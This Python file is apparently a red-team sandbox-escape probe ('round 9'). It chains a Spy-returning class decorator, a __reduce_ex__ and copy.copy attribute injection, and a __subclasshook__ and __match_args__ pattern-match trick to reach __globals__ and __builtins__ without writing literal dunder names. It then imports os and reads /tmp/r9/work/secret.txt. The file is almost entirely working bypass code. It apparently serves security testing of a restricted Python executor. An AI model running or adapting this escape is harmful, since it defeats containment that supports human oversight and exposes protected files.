# family: red team, round 9 (decorated_class_type_peer)
# _type_peer trusts a name bound by a class statement; a class decorator of the tool may return any object.
# `type(k) == Peer` then calls Peer (a Spy object).__eq__(type(k)).
import abc
import copy


class Spy:
    def __init__(self):
        self.seen = []

    def __eq__(self, other):
        self.seen.append(other)
        return False

    __hash__ = None


def spied(cls):
    return Spy()


@spied
class Peer:
    pass


class Base(abc.ABC):
    pass


def metaclass():
    return capture(Base)


def capture(k):
    type(k) == Peer
    return Peer.seen[-1]


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
